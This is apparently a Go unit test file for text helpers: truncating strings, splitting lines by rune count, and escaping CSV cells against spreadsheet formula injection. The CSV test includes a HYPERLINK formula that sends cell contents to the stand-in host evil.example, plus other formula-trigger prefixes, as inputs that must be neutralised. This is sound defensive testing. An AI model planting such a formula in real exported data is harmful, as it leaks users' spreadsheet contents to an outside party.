package models

import (
	"strings"
	"testing"
	"unicode/utf8"
)

func TestClip(t *testing.T) {
	for _, c := range []struct {
		in   string
		max  int
		want string
	}{
		{"abc", 5, "abc"},
		{"abcdef", 4, "abc…"},
		{"Nguyễn Văn A", 7, "Nguyễn…"},
		{"abc", 0, ""},
		{strings.Repeat("đ", 5000), 3, "đđ…"},
	} {
		if got := Clip(c.in, c.max); got != c.want {
			t.Errorf("Clip(%.20q, %d) = %q, want %q", c.in, c.max, got, c.want)
		}
	}
}

func TestCutLines(t *testing.T) {
	for _, c := range []struct {
		in         string
		max        int
		head, rest string
	}{
		{"một\nhai", 20, "một\nhai", ""},
		{"một\nhai\nba", 8, "một\nhai", "ba"},
		{"một\nhai\nba", 5, "một", "hai\nba"},
		{"abcdefgh", 3, "abc", "defgh"},
		{"\nabcdef", 3, "\nab", "cdef"},
	} {
		h, r := CutLines(c.in, c.max)
		if h != c.head || r != c.rest {
			t.Errorf("CutLines(%q, %d) = %q, %q; want %q, %q", c.in, c.max, h, r, c.head, c.rest)
		}
		if utf8.RuneCountInString(h) > c.max {
			t.Errorf("CutLines(%q, %d): head %q longer than %d", c.in, c.max, h, c.max)
		}
	}
}

func TestCSVText(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`: `'=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`,
		"+84 912":      "'+84 912",
		"-5":           "'-5",
		"@SUM(A1)":     "'@SUM(A1)",
		"\tx":          "'\tx",
		"\rx":          "'\rx",
		"＝1+1":         "'＝1+1",
		"Nguyễn Văn A": "Nguyễn Văn A",
		"":             "",
		"a=b":          "a=b",
		"'already":     "'already",
	} {
		if got := CSVText(in); got != want {
			t.Errorf("CSVText(%q) = %q, want %q", in, got, want)
		}
	}
}
